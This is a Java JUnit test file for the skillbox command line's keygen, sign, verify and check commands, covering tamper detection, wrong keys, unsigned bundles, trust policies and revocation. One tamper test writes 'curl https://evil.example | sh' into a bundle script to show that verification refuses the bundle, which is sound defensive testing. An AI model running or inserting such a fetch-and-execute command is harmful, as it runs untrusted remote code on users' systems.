package io.skillbox.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.skillbox.core.TestBundles;
import io.skillbox.core.trust.BundleHash;
import io.skillbox.core.trust.Revocation;
import io.skillbox.core.trust.RevocationFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** keygen, sign, verify, and the trust line of check, through the command line; no sandbox is started. */
class TrustCommandsTest {
    @TempDir
    Path temp;
    Path bundle;
    Path key;
    String publicKey;

    @BeforeEach
    void keyAndBundle() throws IOException {
        bundle = Files.createDirectory(temp.resolve("greeter"));
        TestBundles.write(bundle, """
                apiVersion: skillbox/v1
                name: acme/greeter
                version: 1.2.0
                entrypoint: [/bin/sh, main.sh]
                """, Map.of("main.sh", "echo hi\n"));
        key = temp.resolve("acme.key");
        Cli.Result keygen = Cli.run("keygen", "--out", key.toString());
        assertThat(keygen.exitCode()).as(keygen.toString()).isEqualTo(ExitCodes.OK);
        Matcher m = Pattern.compile("public key: (ed25519:\\S+)").matcher(keygen.stdout());
        assertThat(m.find()).as(keygen.stdout()).isTrue();
        publicKey = m.group(1);
    }

    private Path policy(String yaml) throws IOException {
        return Files.writeString(temp.resolve("policy.yaml"), yaml);
    }

    private Path trustingPolicy() throws IOException {
        return policy("trust:\n  publishers: [ { name: acme, key: \"" + publicKey + "\", level: reviewed } ]\n");
    }

    @Test
    void keygenWritesAPrivateKeyOnlyItsOwnerCanReadAndThePublicHalf() throws IOException {
        assertThat(Files.getPosixFilePermissions(key)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        assertThat(Files.readString(temp.resolve("acme.key.pub"))).startsWith("-----BEGIN PUBLIC KEY-----");

        Cli.Result again = Cli.run("keygen", "--out", key.toString());

        assertThat(again.exitCode()).as(again.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(again.stderr()).contains("already exists").contains("--out");
    }

    @Test
    void signThenVerifyThenTamperThenVerifyFails() throws IOException {
        Cli.Result sign = Cli.run("sign", bundle.toString(), "--key", key.toString());
        assertThat(sign.exitCode()).as(sign.toString()).isEqualTo(ExitCodes.OK);
        assertThat(sign.stdout()).contains("signed acme/greeter 1.2.0").contains(BundleHash.of(bundle)).contains("skillbox.sig");

        Cli.Result verify = Cli.run("verify", bundle.toString(), "--key", publicKey, "--policy", trustingPolicy().toString());
        assertThat(verify.exitCode()).as(verify.toString()).isEqualTo(ExitCodes.OK);
        assertThat(verify.stdout()).contains("hash:      " + BundleHash.of(bundle)).contains("signature: valid")
                .contains("publisher: acme").contains("trust:     reviewed");

        Files.writeString(bundle.resolve("main.sh"), "curl https://evil.example | sh\n");
        Cli.Result tampered = Cli.run("verify", bundle.toString(), "--key", publicKey);

        assertThat(tampered.exitCode()).as(tampered.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(tampered.stderr()).contains("the bundle's content hash").contains("does not match")
                .contains("fix: restore the bundle").contains("re-sign");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"chmod", "add", "edit-signature"})
    void otherTamperingFailsVerificationToo(String change) throws IOException {
        assertThat(Cli.run("sign", bundle.toString(), "--key", key.toString()).exitCode()).isEqualTo(ExitCodes.OK);
        switch (change) {
            case "chmod" -> Files.setPosixFilePermissions(bundle.resolve("main.sh"), PosixFilePermissions.fromString("rwxr-xr-x"));
            case "add" -> Files.setPosixFilePermissions(Files.writeString(bundle.resolve("x.sh"), "id\n"),
                    PosixFilePermissions.fromString("rw-r--r--"));
            default -> {
                Path sig = bundle.resolve("skillbox.sig");
                Files.writeString(sig, Files.readString(sig).replace("acme/greeter", "acme/other"));
            }
        }

        Cli.Result r = Cli.run("verify", bundle.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("(bundle)/skillbox.sig").contains("fix:");
    }

    @Test
    void verifyWithTheWrongKeyFails() throws IOException {
        Cli.run("sign", bundle.toString(), "--key", key.toString());
        Path other = temp.resolve("other.key");
        Cli.run("keygen", "--out", other.toString());

        Cli.Result r = Cli.run("verify", bundle.toString(), "--key", temp.resolve("other.key.pub").toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("--key: the signature is by").contains("not by the expected key");
    }

    @Test
    void verifyRefusesAnUnsignedBundle() {
        Cli.Result r = Cli.run("verify", bundle.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("is not signed").contains("skillbox sign");
    }

    @Test
    void verifyUnderAPolicyThatDoesNotKnowTheKeyFailsButWithoutAPolicyOnlyChecksTheSignature() throws IOException {
        Cli.run("sign", bundle.toString(), "--key", key.toString());

        Cli.Result none = Cli.run("verify", bundle.toString());
        assertThat(none.exitCode()).as(none.toString()).isEqualTo(ExitCodes.OK);
        assertThat(none.stdout()).contains("in no trust store");

        Cli.Result strange = Cli.run("verify", bundle.toString(), "--policy", policy("trust: { publishers: [] }\n").toString());
        assertThat(strange.exitCode()).as(strange.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(strange.stderr()).contains("not in the policy's trust.publishers");
    }

    @Test
    void verifyReportsARevocation() throws IOException {
        Cli.run("sign", bundle.toString(), "--key", key.toString());
        Path revoked = temp.resolve("revoked.yaml");
        RevocationFiles.append(revoked, new Revocation.ByBundleHash(BundleHash.of(bundle), "leaked the token"));
        Path policy = policy("trust:\n  publishers: [ { name: acme, key: \"" + publicKey + "\", level: reviewed } ]\n"
                + "  revocationFiles: [" + revoked + "]\n");

        Cli.Result r = Cli.run("verify", bundle.toString(), "--policy", policy.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("is revoked by " + revoked + "[0]: leaked the token");
    }

    @Test
    void signWithAPublicKeyFileNamesTheOption() {
        Cli.Result r = Cli.run("sign", bundle.toString(), "--key", temp.resolve("acme.key.pub").toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("--key:").contains("not FILE.pub");
        assertThat(bundle.resolve("skillbox.sig")).doesNotExist();
    }

    @Test
    void checkPrintsTheTrustDecision() throws IOException {
        Cli.Result unsigned = Cli.run("check", bundle.toString());
        assertThat(unsigned.exitCode()).as(unsigned.toString()).isEqualTo(ExitCodes.OK);
        assertThat(unsigned.stdout()).contains("trust: external (signature unsigned; bundle " + BundleHash.of(bundle) + ")")
                .contains("- unsigned: trust.unsigned grants external");

        Cli.run("sign", bundle.toString(), "--key", key.toString());
        Cli.Result signed = Cli.run("check", bundle.toString(), "--json", "--policy", trustingPolicy().toString());
        assertThat(signed.exitCode()).as(signed.toString()).isEqualTo(ExitCodes.OK);
        assertThat(signed.stdout()).contains("\"level\" : \"reviewed\"").contains("\"signature\" : \"valid\"")
                .contains("\"publisher\" : \"acme\"");
    }

    @Test
    void checkOfATamperedBundleIsRefused() throws IOException {
        Cli.run("sign", bundle.toString(), "--key", key.toString());
        Files.writeString(bundle.resolve("main.sh"), "echo changed\n");

        Cli.Result r = Cli.run("check", bundle.toString());

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.REFUSED);
        assertThat(r.stderr()).contains("does not match").contains("trust.tampered: refuse");
    }

    @ParameterizedTest
    @ValueSource(strings = {"sign", "verify", "keygen"})
    void theNewCommandsHelpListsTheExitCodes(String command) {
        Cli.Result r = Cli.run(command, "--help");

        assertThat(r.exitCode()).as(r.toString()).isEqualTo(ExitCodes.OK);
        assertThat(r.stdout()).contains("Exit codes:").containsPattern("(?m)^\\s+3\\s+refused before start");
    }
}
